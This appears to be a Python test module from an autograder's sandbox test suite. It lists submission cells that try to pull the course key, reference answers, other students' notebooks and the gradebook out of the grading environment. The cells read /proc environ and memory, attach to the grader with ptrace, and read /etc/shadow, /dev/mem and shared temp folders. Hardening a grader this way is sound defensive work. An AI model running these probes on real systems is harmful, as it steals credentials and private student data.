"""Attacks on secrets: the course key, the answers of the course, other people's work, the gradebook.

Each prints whatever it finds, so that a secret that was found stands in the graded notebook; a test looks for it there.
"""

from __future__ import annotations

from .model import WRONG, Attack

DONE = "print('looked everywhere')"
LOOKED = ("looked everywhere",)
LOOK = """
import os
def show(path, most=200_000):
    try:
        with open(path, "rb") as file:
            print(path, file.read(most).decode("latin1"))
    except OSError as error:
        print(path, type(error).__name__)
"""


def _looks(name: str, tries: str, text: str, **more) -> Attack:
    """Wrong answers, and a cell that looks for secrets."""
    more = {"level": 2, **more}
    return Attack(name, tries, answers=WRONG, first=f"{LOOK}\n{text.strip()}\n{DONE}", shows=LOOKED, **more)


ATTACKS = (
    _looks("environment", "the key, or where it lies, stands in the environment", """
print(dict(os.environ))
show("/proc/self/environ")
assert "DLKIT_COURSE_KEY_FILE" not in os.environ, "BREA" "CH"
""", level=1),
    _looks("environments of others", "the key stands in the environment of another process", """
for pid in filter(str.isdigit, os.listdir("/proc")):
    for what in ("environ", "cmdline", "maps", "status"):
        if int(pid) != os.getpid():
            show(f"/proc/{pid}/{what}")
"""),
    _looks("key file", "the file with the key lies beside the course", """
for folder in ("@ROOT@", "@HOME@", "@REPO@", os.getcwd(), os.path.expanduser("~")):
    while True:
        show(os.path.join(folder, ".course_key"))
        if folder == os.path.dirname(folder):
            break
        folder = os.path.dirname(folder)
show("@KEY@")
"""),
    _looks("key by the library", "the library that finds the key is asked for it", """
try:
    from dlkit.checking import cases
    print("key", cases.find_key(), cases.find_key(__import__("pathlib").Path("@ROOT@")))
except BaseException as error:
    print(type(error).__name__)
try:
    from dlkit.checking.notebook import grade
    print(grade("unit1.linear_unit"))
except BaseException as error:
    print(type(error).__name__)
"""),
    _looks("memory of the parent", "the process that grades keeps the key in its memory", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
here = ctypes.create_string_buffer(64)
for pid in {os.getppid(), @GRADER@, 1, *map(int, filter(str.isdigit, os.listdir("/proc")))} - {os.getpid()}:
    show(f"/proc/{pid}/mem", 10)
    show(f"/proc/{pid}/maps", 10)
    print(pid, libc.ptrace(16, pid, None, None), libc.process_vm_readv(pid, ctypes.byref(Part(ctypes.addressof(here), 64)), 1,
          ctypes.byref(Part(0x400000, 64)), 1, 0))
    if pid == @GRADER@ and libc.ptrace(16, pid, None, None) == 0:
        print("BREA" "CH: attached to the grader")
"""),
    _looks("open descriptors", "something that was left open leads to a secret", """
import stat
for name in os.listdir("/proc/self/fd"):
    try:
        where = os.readlink(f"/proc/self/fd/{name}")
        print(name, where)
        kind = os.fstat(int(name)).st_mode
    except OSError:
        continue
    if stat.S_ISREG(kind):
        print(os.pread(int(name), 10**6, 0).decode("latin1"))
    elif stat.S_ISDIR(kind):
        print("BREA" "CH: an open folder", where, os.listdir(int(name)))
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) != os.getpid():
        try:
            for name in os.listdir(f"/proc/{pid}/fd"):
                show(f"/proc/{pid}/fd/{name}")
        except OSError:
            pass
""", level=2),
    _looks("frames and objects", "the key or an exercise is an object of this process", """
import gc, sys
frame = sys._getframe()
while frame is not None:
    print(frame.f_code.co_filename, sorted(map(str, frame.f_locals))[:40])
    for name, value in {**frame.f_locals, **frame.f_globals}.items():
        if any(word in str(name).lower() for word in ("key", "secret", "expected", "reference")) and isinstance(value, (str, bytes)):
            print(name, value)
    frame = frame.f_back
for value in gc.get_objects():
    if type(value).__name__ in ("Exercise", "Case", "Mistake", "Verdict", "Regime"):
        print("BREA" "CH: holds a", type(value).__name__)
        break
""", level=1),
    _looks("exercises", "the library's own answers are read as modules and as files", """
import glob, sys
for name in ("dlkit.exercises", "dlkit.exercises.unit1.neurons", "dlkit.checking.judge", "dlkit.checking.bank"):
    try:
        module = __import__(name, fromlist=["x"])
        found = getattr(module, "find", None)
        print("BREA" "CH: imported", name, found and found("unit1.linear_unit").reference)
    except BaseException as error:
        print(name, type(error).__name__)
for path in glob.glob("@REPO@/dlkit/exercises/**", recursive=True) + ["@REPO@/dlkit/exercises/unit1/neurons/__init__.py"]:
    if path.endswith((".py", ".pyc")):
        try:
            print("BREA" "CH: read", path, len(open(path, "rb").read()))
            break
        except OSError:
            pass
"""),
    _looks("solutions", "the solved notebooks lie beside the released ones", """
show("@HOME@/solutions/unit1_shallow_networks/1_neurons.ipynb", 10**7)
show("@REPO@/solutions/unit1_shallow_networks/1_neurons.ipynb", 10**7)
for folder, folders, files in os.walk("@HOME@"):
    for name in files:
        show(os.path.join(folder, name))
"""),
    _looks("work of others", "somebody else has handed in the right answers", """
for top in ("@ROOT@/submitted", "@ROOT@/autograded", "@ROOT@/feedback", "@ROOT@"):
    try:
        print(os.listdir(top))
    except OSError as error:
        print(type(error).__name__)
show("@ROOT@/submitted/@VICTIM@/unit1_shallow_networks/1_neurons.ipynb", 10**7)
show("@ROOT@/autograded/@VICTIM@/unit1_shallow_networks/1_neurons.ipynb", 10**7)
show("@ROOT@/students.csv")
"""),
    _looks("hidden tests", "the gradebook holds the text of the hidden cells and everybody's marks", """
import sqlite3
for path in ("@ROOT@/gradebook.db", "../../../gradebook.db", "gradebook.db"):
    try:
        base = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
        for table, in base.execute("select name from sqlite_master").fetchall():
            print(table, base.execute(f"select * from {table}").fetchmany(50))
    except Exception as error:
        print(type(error).__name__)
    show(path, 10**6)
"""),
    _looks("shared folders", "something was left in a folder that all processes share", """
for top in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.environ.get("TMPDIR", "/tmp"), os.path.dirname(os.getcwd())):
    for folder, folders, files in os.walk(top):
        folders[:] = [name for name in folders if folder.count("/") < 4]
        for name in files[:50]:
            show(os.path.join(folder, name), 2000)
"""),
    _looks("journal and reports", "what was written about earlier submissions can be read", """
for folder, folders, files in os.walk("@ROOT@"):
    for name in files:
        show(os.path.join(folder, name))
"""),
    _looks("kernel and memory files", "the kernel shows what processes keep to themselves", """
for path in ("/proc/kcore", "/dev/mem", "/proc/1/mem", "/proc/kallsyms", "/etc/shadow", "/proc/@GRADER@/mem",
             "/proc/@GRADER@/environ", "/proc/@GRADER@/cwd/gradebook.db", "/proc/1/root/@ROOT@/gradebook.db",
             "/proc/self/root/@ROOT@/gradebook.db"):
    show(path, 1000)
"""),
)
